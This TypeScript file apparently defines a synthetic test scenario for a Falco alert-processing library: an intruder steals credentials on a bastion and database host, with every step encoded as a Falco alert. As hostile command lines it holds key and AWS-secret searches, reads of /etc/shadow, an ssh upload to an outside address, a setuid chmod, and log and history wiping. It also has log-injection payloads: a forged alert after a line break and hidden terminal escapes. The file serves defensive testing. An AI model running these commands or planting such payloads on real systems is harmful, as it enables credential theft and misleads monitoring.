/** The bundled scenario of stolen credentials. @module */
import type { Scenario } from "../scenario.ts";
import { call, child, execve, type Fields, first, onHost, openat, tcp } from "./_fields.ts";
import { deepFreeze } from "./_freeze.ts";
import { rules } from "./_rules.ts";

const deploy: Fields = {
  ...onHost,
  "proc.cwd": "/home/deploy/",
  "proc.tty": 34818,
  "user.loginuid": 1007,
  "user.name": "deploy",
  "user.uid": 1007,
};
const asRoot: Fields = { "user.name": "root", "user.uid": 0 };
const asNobody: Fields = { "proc.cwd": "/", "user.name": "nobody", "user.uid": 65534 };

// On the bastion: a login with somebody's password, and a look around.
const bash = first(deploy, { name: "sshd", pid: 9102 }, 9120, "/usr/bin/bash", "bash --login");
const ssh = "/home/deploy/.ssh";
const cat = child(bash, 9144, "/usr/bin/cat", `cat ${ssh}/config ${ssh}/known_hosts`);
const tar = child(bash, 9152, "/usr/bin/tar", "tar czf /tmp/.k.tgz .ssh");
const find = child(bash, 9171, "/usr/bin/find", "find / -name id_ed25519 -o -name id_ecdsa");
const grep = child(
  bash,
  9188,
  "/usr/bin/grep",
  "grep -rl BEGIN EC PRIVATE /srv/Büro/Schlüssel /srv/共有",
);
const findAws = child(bash, 9203, "/usr/bin/find", "find /home /opt -path */.aws/credentials");
const grepAws = child(bash, 9211, "/usr/bin/grep", "grep -rn aws_secret_access_key /home /opt");
const vault = '/srv/backup/"Tresor" \\ 2019.kdbx';
const canary = child(bash, 9240, "/usr/bin/strings", `strings ${vault}`);
const sudoNobody = child(
  bash,
  9265,
  "/usr/bin/sudo",
  "sudo -u nobody python3 -m http.server",
  asRoot,
);
const nobody = child(sudoNobody, 9266, "/usr/bin/python3.11", "python3 -m http.server", asNobody);

// With root's rights. These command lines are made to mislead: the first has a line break and then
// text that looks like an alert of Falco's, the second hides itself on a terminal, the third has
// what careless templates replace.
const sudo = child(bash, 9301, "/usr/bin/sudo", "sudo -i", asRoot);
const rootShell = child(sudo, 9302, "/usr/bin/bash", "bash", { "proc.cwd": "/root/" });
const forged = child(
  rootShell,
  9318,
  "/usr/bin/cat",
  "cat /etc/shadow\n03:06:02.000000000: Debug Nothing to see here (user=root)",
);
const hidden = child(
  rootShell,
  9325,
  "/usr/bin/python3.11",
  "python3 -c \u001b[8mprint(open('/etc/shadow').read())\u001b[0m\u001b]0;top\u0007",
);
const template = child(
  rootShell,
  9331,
  "/usr/bin/sed",
  "sed -n s/.*/$&%proc.name$1/p /etc/sudoers",
);
const ln = child(rootShell, 9340, "/usr/bin/ln", "ln -s /etc/shadow /var/www/html/robots.bak");
const chmod = child(rootShell, 9352, "/usr/bin/chmod", "chmod 4755 /var/tmp/.sh");
const gdb = child(rootShell, 9377, "/usr/bin/gdb", "gdb -p 8841 -batch -ex generate-core-file");
const upload = child(bash, 9420, "/usr/bin/ssh", `ssh -p 443 -i ${ssh}/id_ed25519 in@203.0.113.77`);
const rm = child(bash, 9466, "/usr/bin/rm", "rm -f .bash_history");

// On the database host, reached with a stolen key.
const db = "db-2.example.com";
const postgres = first(
  { ...deploy, "proc.tty": 0, "user.loginuid": -1, "user.name": "postgres", "user.uid": 113 },
  { name: "postgres", pid: 2210 },
  20877,
  "/usr/lib/postgresql/16/bin/postgres",
  "postgres -D /var/lib/postgresql/16/main",
);
const copyProgram = child(postgres, 20881, "/usr/bin/dash", "sh -c cat /var/lib/pgsql/.pgpass");
const dbBash = first(
  { ...deploy, ...asRoot, "proc.tty": 34816, "proc.cwd": "/root/", "user.loginuid": 0 },
  { name: "sshd", pid: 20902 },
  20915,
  "/usr/bin/bash",
  "bash",
);
const dbCat = child(dbBash, 20931, "/usr/bin/tail", "tail -n +1 /etc/shadow");
const append = "O_APPEND|O_CREAT|O_WRONLY";

/**
 * An account on a bastion is used by somebody else: a search for keys and cloud credentials, a canary
 * file opened, then root, then the database host. Forty minutes, no container at all.
 *
 * Its command lines hold what attackers plant and careless programs get wrong: quotes, backslashes,
 * non-ASCII text, a line break followed by a forged alert, terminal escape sequences, `$&` and
 * `%proc.name`.
 *
 * Frozen through and through: copy it to change it.
 *
 * @example Nothing here ran in a container
 * ```ts
 * import { scenarios } from "@falco-streams/core/harness";
 * import assert from "node:assert/strict";
 *
 * for (const { output_fields } of scenarios.credentialTheft.alerts) {
 *   assert.equal(output_fields?.["container.id"], "host");
 * }
 * ```
 */
export const credentialTheft: Scenario = deepFreeze<Scenario>({
  version: 1,
  name: "credential theft",
  description:
    "A stolen account collects keys on a bastion, trips over a canary file, becomes root " +
    "and goes on to the database host. The canary is a rule of the site's own.",
  falcoVersion: "0.43.1",
  start: "2026-01-01T03:00:00Z",
  hostname: "bastion-1.example.com",
  alerts: [
    { ...rules.readSshInformation, output_fields: openat(cat, `${ssh}/config`) },
    { ...rules.readSshInformation, afterMs: 1, output_fields: openat(cat, `${ssh}/known_hosts`) },
    {
      ...rules.readSshInformation,
      afterMs: 23_670,
      output_fields: openat(tar, `${ssh}/id_ed25519`),
    },
    { ...rules.readSshInformation, afterMs: 2, output_fields: openat(tar, `${ssh}/known_hosts`) },
    { ...rules.searchPrivateKeys, afterMs: 38_115, output_fields: execve(find) },
    { ...rules.searchPrivateKeys, afterMs: 61_204, output_fields: execve(grep) },
    { ...rules.findAwsCredentials, afterMs: 44_730, output_fields: execve(findAws) },
    { ...rules.findAwsCredentials, afterMs: 9_318, output_fields: execve(grepAws) },
    {
      ...rules.canaryFile,
      afterMs: 12_066,
      output_fields: openat(canary, vault),
    },
    { ...rules.systemUserInteractive, afterMs: 140_000, output_fields: execve(nobody) },
    {
      ...rules.readSensitiveFile,
      afterMs: 33_512,
      output_fields: openat(forged, "/etc/shadow"),
    },
    { ...rules.readSensitiveFile, afterMs: 21_840, output_fields: openat(hidden, "/etc/shadow") },
    {
      ...rules.readSensitiveFile,
      afterMs: 17_233,
      output_fields: openat(template, "/etc/sudoers"),
    },
    {
      ...rules.symlinkSensitive,
      afterMs: 52_098,
      output_fields: call(ln, "symlinkat", {
        "evt.arg.linkpath": "/var/www/html/robots.bak",
        "evt.arg.target": "/etc/shadow",
      }),
    },
    {
      ...rules.setuidBit,
      afterMs: 28_441,
      output_fields: call(chmod, "fchmodat", {
        "evt.arg.filename": "/var/tmp/.sh",
        "evt.arg.mode": "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
      }),
    },
    {
      // The debugger stops the key agent, reads it out and lets go: several calls, one look.
      ...rules.ptraceAttached,
      afterMs: 95_120,
      repeat: 4,
      everyMs: 1,
      output_fields: call(gdb, "ptrace"),
    },
    {
      ...rules.sshOddPort,
      afterMs: 310_000,
      output_fields: tcp(upload, "connect", "192.0.2.10:44870", "203.0.113.77:443"),
    },
    { ...rules.dbSpawned, hostname: db, afterMs: 640_000, output_fields: execve(copyProgram) },
    {
      ...rules.readSensitiveFile,
      hostname: db,
      afterMs: 222_300,
      output_fields: openat(dbCat, "/etc/shadow"),
    },
    {
      ...rules.modifyShellConfig,
      hostname: db,
      afterMs: 41_017,
      output_fields: openat(
        child(dbBash, 20960, "/usr/bin/tee", "tee -a /root/.profile"),
        "/root/.profile",
        append,
      ),
    },
    {
      ...rules.clearLogs,
      hostname: db,
      afterMs: 604_000,
      output_fields: openat(dbBash, "/var/log/auth.log", "O_TRUNC|O_CREAT|O_WRONLY"),
    },
    {
      ...rules.deleteShellHistory,
      afterMs: 88_700,
      output_fields: call(rm, "unlinkat", { "evt.arg.name": ".bash_history" }),
    },
  ],
});
